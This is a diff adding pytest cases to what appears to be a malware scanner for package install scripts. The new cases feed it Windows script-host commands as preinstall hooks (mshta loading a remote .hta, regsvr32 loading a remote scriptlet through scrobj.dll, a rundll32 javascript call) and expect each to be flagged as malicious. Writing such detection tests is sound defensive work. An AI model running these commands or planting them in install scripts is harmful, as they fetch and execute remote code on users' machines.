@@ -189,3 +189,13 @@ def test_a_miner_started_at_install_is_malicious(command):
 
 def test_a_benchmark_that_mentions_hashing_is_not_a_miner():
     assert "install-script/crypto-miner" not in rules(artifact({"postinstall": "node bench/hash.js --algo sha256"}))
+
+
+@pytest.mark.parametrize("command", [
+    "mshta https://cdn.example/u.hta",
+    "regsvr32 /s /n /u /i:https://cdn.example/file.sct scrobj.dll",
+    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+])
+def test_windows_script_hosts_running_remote_code(command):
+    found = findings(artifact({"preinstall": command}))
+    assert "install-script/remote-script" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
